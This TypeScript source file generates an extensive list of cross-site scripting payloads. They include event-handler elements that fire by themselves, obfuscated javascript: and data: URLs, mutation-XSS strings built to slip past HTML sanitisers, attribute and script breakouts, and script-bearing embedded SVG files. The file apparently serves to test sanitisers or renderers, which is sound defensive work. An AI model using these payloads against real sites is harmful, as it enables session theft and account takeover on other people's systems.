/**
 * Ways to get a script into rendered text or HTML; each would call `run`. They are combined from parts, so that each
 * trick is tried in each place where it works.
 */
export function xssVectors(run: string): string[] {
  const code = run.replaceAll('"', '&quot;');
  return [
    ...withHandlers(code),
    ...scriptAddresses(run).flatMap((address) => ADDRESS_PLACES.map((place) => place.replace('ADDRESS', address))),
    ...mutating(code),
    ...breakingOut(run, code),
    ...filesThatRun(run),
  ];
}

/** Elements with an event handler that runs by itself or on a touch. */
function withHandlers(code: string): string[] {
  const elements = [
    ['img src=x', 'onerror'],
    ['img src=/favicon.svg', 'onload'],
    ['svg', 'onload'],
    ['body', 'onload'],
    ['iframe src=/favicon.svg', 'onload'],
    ['video src=x', 'onerror'],
    ['audio src=x', 'onerror'],
    ['video><source src=x', 'onerror'],
    ['details open', 'ontoggle'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['button autofocus', 'onfocus'],
    ['a href=#x autofocus', 'onfocus'],
    ['p tabindex=0 autofocus', 'onfocus'],
    ['p contenteditable autofocus', 'onfocus'],
    ['object data=x', 'onerror'],
    ['embed src=x', 'onerror'],
    ['link rel=stylesheet href=/unavailable.css', 'onload'],
    ['style', 'onload'],
    ['marquee', 'onstart'],
    ['svg><animate attributeName=x dur=1s', 'onbegin'],
    ['svg><set attributeName=x', 'onbegin'],
    ['table><td background=x', 'onmouseover'],
    ['p style="animation-name:x;animation-duration:1s"', 'onanimationstart'],
    ['dialog open', 'onbeforetoggle'],
    ['x-y tabindex=0 autofocus', 'onfocusin'],
  ];
  const spellings = [
    (tag: string, handler: string) => `<${tag} ${handler}="${code}">`,
    (tag: string, handler: string) => `<${tag.toUpperCase()} ${handler.toUpperCase()}='${code}'//`,
    (tag: string, handler: string) => `<${tag.replaceAll(' ', '/')}\n${handler}\t=\n"${code}">`,
  ];
  return elements.flatMap(([tag = '', handler = '']) => spellings.map((spell) => spell(tag, handler)));
}

const ADDRESS_PLACES = [
  '<a href="ADDRESS">klik</a>',
  '<iframe src="ADDRESS"></iframe>',
  '<form action="ADDRESS"><button>klik</button></form>',
  '<svg><a xlink:href="ADDRESS"><text y=20>klik</text></a></svg>',
  '<math><mtext href="ADDRESS">klik</mtext></math>',
];

/** Addresses that are scripts, in the spellings that a browser accepts. */
function scriptAddresses(run: string): string[] {
  const code = encodeURIComponent(run);
  return [
    `javascript:${code}`,
    `JaVaScRiPt:${code}`,
    `java\tscript:${code}`,
    `java\nscript:${code}`,
    `&#106;avascript:${code}`,
    `&#x6A;avascript&colon;${code}`,
    ` javascript:${code}`,
    `&#1;javascript:${code}`,
    `javascript&#58;${code}`,
    `javascript:/*--></title></style></textarea>*/${code}`,
    `vbscript:${code}`,
    `data:text/html,<script>parent.${run}</script>`.replaceAll('"', '&quot;'),
    `data:text/html;base64,${Buffer.from(`<script>parent.${run}</script>`).toString('base64')}`,
    `//[javascript:${code}]`,
  ];
}

/** Mutation XSS: harmless when sanitised, but different when parsed a second time. */
const mutating = (code: string): string[] => [
  `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  `<svg><desc><![CDATA[</desc><img src=x onerror=${code}>]]></svg>`,
  `<template><style></template><img src=x onerror=${code}>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${code}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${code}></style></annotation-xml></math>`,
  `<table><caption><svg><title><table><img src=x onerror=${code}></table></title></svg></caption></table>`,
  `<xmp><p id="</xmp><img src=x onerror=${code}>">`,
  `<!--><img src=x onerror=${code}>-->`,
  `<!-- --!><img src=x onerror=${code}>-->`,
  `<textarea><img title="</textarea><img src=x onerror=${code}>"></textarea>`,
  `<title><a id="</title><img src=x onerror=${code}>"></title>`,
  `<iframe><p id="</iframe><img src=x onerror=${code}>"></iframe>`,
  `<p><b><p><b><i><p><svg><style><img src=x onerror=${code}></style></svg></p></i>`,
];

/** Vectors that break out of an attribute, a script or a text. */
const breakingOut = (run: string, code: string): string[] => [
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${code}>`,
  `" onmouseover="${code}" autofocus onfocus="${code}" x="`,
  `' autofocus onfocus='${code}' tabindex='0`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `\\"-${run}-\\"`,
  `\u2028${run}//`,
  `\${${run}}`,
  `{{constructor.constructor('${run.replaceAll("'", "\\'")}')()}}`,
  `<base href="javascript:/a/../${encodeURIComponent(run)}//"><a href="x">klik</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${encodeURIComponent(run)}">`,
  `<p style="background:url('javascript:${encodeURIComponent(run)}')">`,
  `<p style="width:expression(${code})">`,
  `<style>@import 'javascript:${encodeURIComponent(run)}';</style>`,
  `<button formaction="javascript:${encodeURIComponent(run)}" form="x">klik</button><form id="x"></form>`,
  `<img src="x\`onerror=${code}\`">`,
  `<a href="/over" ping="javascript:${encodeURIComponent(run)}" onclick="${code}">klik</a>`,
  `<p id="x" slot="y" onpointerenter="${code}" autofocus tabindex="0" onfocus="${code}">klik</p>`,
];

/** Embedded files with a script. */
const filesThatRun = (run: string): string[] => {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>parent.${run}</script></svg>`;
  const data = `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
  return [
    `<object data="${data}"></object>`,
    `<embed src="${data}">`,
    `<iframe srcdoc="${svg.replaceAll('"', '&quot;')}"></iframe>`,
    `<svg><use href="${data}#x"></use></svg>`,
    `<svg><image href="${data}"></image></svg>`,
    `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
    `<link rel="import" href="${data}">`,
    `<svg><foreignObject><iframe src="${data}"></iframe></foreignObject></svg>`,
  ];
};
